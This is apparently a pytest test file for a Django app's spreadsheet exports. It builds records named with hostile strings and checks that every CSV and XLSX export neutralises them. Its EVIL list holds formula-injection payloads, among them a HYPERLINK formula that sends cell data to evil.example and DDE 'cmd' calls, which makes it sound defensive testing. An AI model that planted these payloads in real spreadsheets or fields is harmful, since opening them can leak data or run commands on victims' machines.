"""Every spreadsheet the product writes is safe to open: no cell is a formula, no text starts like one, and text
a workbook cannot hold never turns an export into a server error.

Every export path: the assignment list as CSV and as XLSX, the dashboard workbook, the period report workbook and
the import template (whose reference sheet lists missions, themes, directives and commitments). Each is built from
a world whose every name and title is hostile, then read back cell by cell. `neutralise` and `sheet_text` are
also checked over any text (hypothesis): what is neutralised is undone exactly, and nothing survives as a formula.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from missions.models import Membership
from tests.factories import CommitmentFactory, DirectiveFactory, MissionFactory, TaskFactory, make_assignment, member
from tracker import exports, services
from tracker.models import Theme

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x0b=1+1",  # a vertical tab (Word's line break), then a formula
    "\x01\x02=1+1",  # control characters a program may skip, then a formula
    "'=1+1",  # an apostrophe someone typed
    "Tiến độ\x0bghi chú\x07 🇻🇳",  # text with characters a workbook cannot hold
]
DANGEROUS = exports.FORMULA_PREFIXES


@pytest.fixture
def hostile_world(db, committee_user):
    today = timezone.localdate()
    mission = MissionFactory(code="EMB-EVIL", name_vi=EVIL[0], name_en=EVIL[1], city=EVIL[2])
    theme = Theme.objects.create(code="evil", name_vi=EVIL[3], name_en=EVIL[4], group="new")
    directive = DirectiveFactory(title=EVIL[5], number=EVIL[6])
    commitment = CommitmentFactory(title=EVIL[7])
    head = member(mission, Membership.Role.HEAD)
    for i, title in enumerate(EVIL):
        task = TaskFactory(title=title, directive=directive, commitment=commitment if i % 2 else None)
        task.themes.add(theme)
        deadline = today + datetime.timedelta(days=(-20 if i % 3 == 0 else 3 if i % 3 == 1 else 40))
        a = make_assignment(mission=mission, task=task, deadline=deadline)
        if i % 3 == 2:
            services.extension_request_create(
                assignment_id=a.pk,
                requested_by=head,
                requested_deadline=deadline + datetime.timedelta(days=9),
                reason=EVIL[i],
            )
    return committee_user


def cells_of_workbook(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


WORKBOOKS = [
    ("assignments", lambda: reverse("admin:tracker_assignment_export", args=["xlsx"])),
    ("dashboard", lambda: reverse("admin:tracker_dashboard_xlsx")),
    ("period report", lambda: reverse("admin:tracker_report_xlsx")),
    ("import template", lambda: reverse("admin:tracker_task_import_template")),
]


@pytest.mark.parametrize("language", ["en", "vi"])
@pytest.mark.parametrize("name,url", WORKBOOKS, ids=[w[0] for w in WORKBOOKS])
def test_no_workbook_holds_a_formula_or_fails_on_hostile_text(client, hostile_world, settings, name, url, language):
    client.force_login(hostile_world)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    cells = cells_of_workbook(body(client.get(url())))
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{name}: formula cells"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if exports._needs_apostrophe(t) and not t.startswith("'")], name
    assert not [t for t in texts if exports.ILLEGAL_IN_SHEETS.search(t)], name
    # The hostile text is there, neutralised, not dropped: the check above is not vacuous.
    neutralised = {exports.unneutralise(t) for t in texts if t.startswith("'")}
    assert neutralised & {exports.ILLEGAL_IN_SHEETS.sub("", e) for e in EVIL} or neutralised & set(EVIL), name


def test_the_csv_export_neutralises_every_field(client, hostile_world):
    client.force_login(hostile_world)
    text = body(client.get(reverse("admin:tracker_assignment_export", args=["csv"]))).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if f.lstrip(exports.CONTROL_CHARACTERS).startswith(DANGEROUS)]
    titles = [row[4] for row in rows[1:]]
    assert sorted(exports.unneutralise(t) for t in titles) == sorted(EVIL)  # each title comes back as typed
    assert sum(1 for t in titles if t.startswith("'")) == len(EVIL) - 1  # all but the harmless last one


def test_an_exported_workbook_imports_back_as_typed(client, hostile_world):
    """Titles that look like formulas go out neutralised and come back as typed through the import's reader."""
    from tracker import imports

    client.force_login(hostile_world)
    cells = cells_of_workbook(body(client.get(reverse("admin:tracker_assignment_export", args=["xlsx"]))))
    titles = sorted(c.value for c in cells if c.column == 5 and c.row > 1)
    assert sorted(imports._text(t) for t in titles) == sorted(
        exports.ILLEGAL_IN_SHEETS.sub(lambda m: "\n" if m.group() in "\x0b\x0c" else "", e).strip() for e in EVIL
    )


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60)
PROPERTIES = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTIES
@given(value=TEXT)
def test_neutralising_any_text_is_undone_exactly(value):
    assert exports.unneutralise(exports.neutralise(value)) == value
    assert not exports.neutralise(value).lstrip(exports.CONTROL_CHARACTERS).startswith(DANGEROUS)


@PROPERTIES
@given(values=st.lists(TEXT, min_size=1, max_size=8))
def test_any_text_makes_a_workbook_cell_that_is_never_a_formula(values):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([exports.cell_value(v)[0] for v in values])
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows(values_only=False))
    read = [c for row in cells for c in row]
    for value, cell in zip(values, read, strict=False):
        assert cell.data_type != "f"
        written = exports.cell_value(value)[0]
        cleaned = exports.ILLEGAL_IN_SHEETS.sub(lambda m: "\n" if m.group() in "\x0b\x0c" else "", value)
        assert exports.unneutralise(written) == cleaned
        # The file keeps the text as written, line ends aside (XML reads "\r\n" and a lone "\r" as "\n").
        assert (cell.value or "") == written.replace("\r\n", "\n").replace("\r", "\n")


@PROPERTIES
@given(values=st.lists(TEXT, min_size=1, max_size=8))
def test_any_text_makes_a_csv_field_that_comes_back_as_typed(values):
    with translation.override("en"):
        line = io.StringIO()
        csv.writer(line).writerow([exports.cell_text(v) for v in values])
    (row,) = list(csv.reader(io.StringIO(line.getvalue()))) or [[""]]
    assert [exports.unneutralise(f) for f in row] == values
    assert not [f for f in row if f.lstrip(exports.CONTROL_CHARACTERS).startswith(DANGEROUS)]
